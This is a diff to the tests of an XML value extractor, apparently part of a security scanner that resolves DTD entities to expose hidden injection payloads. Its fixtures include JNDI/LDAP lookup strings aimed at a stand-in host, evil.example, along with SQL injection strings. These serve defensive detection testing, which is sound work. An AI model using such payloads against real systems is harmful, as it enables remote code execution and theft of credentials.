@@ -62,8 +62,9 @@ test('plain internal entities are substituted once; nested, markup and DTD-inter
   assert.deepEqual(read('<!DOCTYPE r [<!ENTITY j "jn">]><r><q>${&j;di:ldap://evil.example/a}</q></r>'), [['${jndi:ldap://evil.example/a}'], undefined]);
   // Split at a space (a fourteenth review: nothing reported it when only glued references counted).
   assert.deepEqual(read('<!DOCTYPE r [<!ENTITY a "SELECT password FROM users--">]><r><q>1\' UNION &a;</q></r>'), [["1' UNION SELECT password FROM users--"], undefined]);
-  // Nested: the parser's job, reported.
-  assert.equal(read('<!DOCTYPE r [<!ENTITY a "jn"><!ENTITY b "&a;di">]><r>${&b;:ldap://x/a}</r>')[1], 'a');
+  // Built of plain ones: resolved too. Holding markup: the parser's job, reported.
+  assert.deepEqual(read('<!DOCTYPE r [<!ENTITY a "jn"><!ENTITY b "&a;di">]><r>${&b;:ldap://x/a}</r>'), [['${jndi:ldap://x/a}'], undefined]);
+  assert.equal(read('<!DOCTYPE r [<!ENTITY j "jn<!---->di">]><r>${&j;:ldap://x/a}</r>')[1], 'j');
   // A `]` in a comment, an instruction or a quoted value does not end the subset (a thirteenth review).
   for (const trick of ['<!-- ]><x> -->', '<?pi ]><x>?>', '<!ENTITY z "]><x>">'])
     assert.deepEqual(read(`<!DOCTYPE r [${trick}<!ENTITY j "jn">]><r><q>\${&j;di:x}</q></r>`)[0], ['${jndi:x}'], trick);
@@ -73,6 +74,14 @@ test('plain internal entities are substituted once; nested, markup and DTD-inter
   assert.deepEqual(read('<!DOCTYPE b [<!ENTITY product "Portcullis"><!ENTITY ver "2.1">]><b>&product;&#x2019;s v&ver; docs</b>'), [['Portcullis&#x2019;s v2.1 docs'], undefined]);
   assert.equal(read('<!DOCTYPE svg [<!ENTITY st0 "fill:none;">]><svg><rect style="&st0;stroke:#000"/></svg>')[1], undefined);
   assert.equal(read('<r>Tom &amp; Jerry</r>')[1], undefined);
+  // A fifteenth review: a decoy declaration in a comment, an instruction or a quoted value does not bind the name;
+  // character references, the other quote and entities built of plain ones are plain too.
+  for (const decoy of ['<!--<!ENTITY j "zz">-->', '<?x <!ENTITY j "zz">?>', '<!ENTITY b "<!ENTITY j \'zz\'>">'])
+    assert.deepEqual(read(`<!DOCTYPE r [${decoy}<!ENTITY j "jn">]><r><q>\${&j;di:x}</q></r>`)[0], ['${jndi:x}'], decoy);
+  assert.deepEqual(
+    read(`<!DOCTYPE b [<!ENTITY nbsp "&#160;"><!ENTITY pub "O'Reilly Media"><!ENTITY product "Portcullis"><!ENTITY title "&product; Guide">]><b>&title;&nbsp;by &pub;</b>`),
+    [["Portcullis Guide&#160;by O'Reilly Media"], undefined],
+  );
 });
 
 test('XML-RPC and field-style names mark the value they name as secret (a fourteenth review)', () => {
@@ -80,13 +89,19 @@ test('XML-RPC and field-style names mark the value they name as secret (a fourte
   const secret = (xml: string) => xmlValues(xml, 1024, isSecret).values.filter((v) => v.secret === true).map((v) => v.value);
   assert.deepEqual(secret("<member><name>password</name><value><string>Tr0ub4dor' OR 'x'='x</string></value></member>"), ["Tr0ub4dor' OR 'x'='x"]);
   assert.deepEqual(secret('<form><field name="password">hunter2</field><field name="user">bob</field></form>'), ['hunter2']);
+  // The naming attribute names the element's other attributes too (a fifteenth review: .NET appSettings).
+  assert.deepEqual(secret(`<appSettings><add key="password" value="hunter2' OR '1'='1"/></appSettings>`), ["hunter2' OR '1'='1"]);
 });
 
-test('nesting past 256 elements stops the reading, cheaply (a fourteenth review: 0.5-0.9 s)', () => {
+test('nesting past 256 elements is reported and read flat, cheaply (reviews 14 and 15)', () => {
   const t0 = process.hrtime.bigint();
   const r = xmlValues(`${'<a>'.repeat(43_000)}${'x<!---->'.repeat(255)}`, 1024);
-  assert.ok(Number(process.hrtime.bigint() - t0) / 1e6 < 50);
+  // A guard against the copy chain (0.5-0.9 s), not a speed target: 25 ms warm here, more on a first, cold run.
+  assert.ok(Number(process.hrtime.bigint() - t0) / 1e6 < 200);
   assert.equal(r.nestedTooDeep, true);
+  // What follows the deep tags is still read (a payload after 257 open tags was not).
+  const after = xmlValues(`<r>${'<a>'.repeat(257)}</r><q>1' UNION <!---->SELECT password FROM users--</q>`, 1024);
+  assert.ok(after.values.some((v) => v.value === "1' UNION SELECT password FROM users--"), JSON.stringify(after.values));
   const t1 = process.hrtime.bigint();
   xmlValues(`${'<a>'.repeat(250)}${'x<!---->'.repeat(255)}${'</a>'.repeat(250)}`, 1024);
   assert.ok(Number(process.hrtime.bigint() - t1) / 1e6 < 50);
